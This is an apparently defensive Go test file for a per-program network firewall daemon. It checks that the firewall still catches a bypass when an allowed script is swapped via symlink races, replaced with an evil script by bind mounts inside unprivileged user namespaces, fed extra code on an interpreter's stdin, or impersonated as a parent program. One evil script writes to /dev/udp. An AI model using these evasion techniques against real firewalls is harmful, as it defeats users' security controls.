package daemon_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"sekisho/app/rule"
)

// allowShellScript lets a shell script do what it wants.
func (a *attackScene) allowShellScript(file string) {
	a.t.Helper()
	_, err := a.api.AddRule(a.t.Context(), rule.Rule{Enabled: true, Action: rule.Allow, Program: rule.Program{Path: shell(a.t), Script: file}}, 0)
	a.must(err)
}

// A path to a script that leads elsewhere by the time that anybody looks.
func TestAttackScriptThroughMovedFolder(t *testing.T) {
	a := newAttackScene(t)
	good := a.write("good/good.sh", "true\n")
	a.write("good/sub/empty", "")
	a.allowShellScript(good)
	a.write("evil/sub/empty", "")
	way := filepath.Join(a.Dir, "way")
	a.must(os.Symlink(filepath.Join(a.Dir, "evil/sub"), way))
	k := a.towards(a.fresh())
	a.write("evil/good.sh", fmt.Sprintf("ln -sfn %s %s\n%s\n", filepath.Join(a.Dir, "good/sub"), way, k.to()))
	a.command(k.target, shell(t), way+"/../good.sh").start().asksScript("")
}

// What an interpreter reads after its script is not the script.
func TestAttackScriptThenInput(t *testing.T) {
	a := newAttackScene(t)
	good := a.script("good.py", "")
	a.allowScript(good)
	k := a.towards(a.fresh())
	input := a.write("input", k.python()+"\n")
	a.command(k.target, "sh", "-c", fmt.Sprintf("exec %s -i %s < %s 2>&1", python(t), good, input)).start().asksScript("")
}

// A script that another file was shown as, until the interpreter had read it.
func TestAttackScriptShownElsewhere(t *testing.T) {
	a := newAttackScene(t)
	bash := shell(t)
	good := a.write("good.sh", "true\n")
	a.allowShellScript(good)
	a.must(os.Chmod(a.Dir, 0o755))
	for name, c := range map[string]struct{ before, in string }{
		"mounted over": {"mount --bind EVIL GOOD && exec BASH GOOD", "umount -l GOOD"},
		"folder mounted over": {
			"mkdir -p TEMP/f && cp EVIL TEMP/f/good.sh && mount --bind TEMP/f DIR && cd DIR && exec BASH good.sh", "umount -l DIR",
		},
	} {
		t.Run(name, func(t *testing.T) {
			a.t = t
			temp := t.TempDir()
			a.must(os.Chmod(filepath.Dir(temp), 0o777), os.Chmod(temp, 0o777))
			k := a.towards(a.fresh())
			words := strings.NewReplacer("GOOD", good, "DIR", a.Dir, "TEMP", temp, "BASH", bash, "EVIL", filepath.Join(temp, "evil.sh"))
			a.must(os.WriteFile(filepath.Join(temp, "evil.sh"), []byte(words.Replace(c.in)+"\n"+k.to()+"\n"), 0o755))
			k = a.command(k.target, "unshare", "--user", "--map-root-user", "--mount", "sh", "-ec", words.Replace(c.before))
			k.command.As(nobody, nobody)
			k.start().asksScript("")
		})
	}
	t.Run("a datagram, and gone", func(t *testing.T) {
		a.t = t
		k := a.towards(a.fresh())
		evil := a.write("evil.sh", fmt.Sprintf("echo evil > /dev/udp/%s/%d\n", k.target.Addr(), k.target.Port()))
		k = a.command(k.target, "unshare", "--user", "--map-root-user", "--mount", "sh", "-ec",
			fmt.Sprintf("mount --bind %s %s && exec %s %[2]s", evil, good, bash))
		k.command.As(nobody, nobody)
		a.must(syscall.Kill(a.service.PID(), syscall.SIGSTOP))
		err := k.command.Run()
		a.must(syscall.Kill(a.service.PID(), syscall.SIGCONT), err)
		a.eventually("a verdict", func() bool { return a.status().Counters.Queued > k.before.Queued })
		k.ends()
	})
}

// A rule for what a program starts is for that program, not for one that was shown in its
// place.
func TestAttackParent(t *testing.T) {
	a := newAttackScene(t)
	launcher := a.write("launcher", "")
	sh, err := os.ReadFile("/bin/sh")
	a.must(err, os.WriteFile(launcher, append(sh, "launcher"...), 0o755))
	child := a.Home.Attacker("child")
	_, err = a.api.AddRule(t.Context(), rule.Rule{Enabled: true, Action: rule.Allow, Program: rule.Program{Path: child.Path, Parent: launcher}}, 0)
	a.must(err)
	run := func(target string) string {
		return fmt.Sprintf("%s -target %s -hold 20s send; true", child.Path, target)
	}
	k := a.towards(a.fresh())
	k = a.command(k.target, launcher, "-c", run(k.target.String()))
	k.start().says("done")
	a.eventually("what the launcher's child sends", k.leaked)
	a.must(k.command.Process.Kill())

	k = a.towards(a.fresh())
	k = a.command(k.target, "unshare", "--user", "--map-root-user", "--mount", "sh", "-ec",
		fmt.Sprintf("mount --bind /bin/sh %s && exec %[1]s -c '%s'", launcher, run(k.target.String())))
	k.command.As(nobody, nobody)
	k.start().asks(child.Path)
}
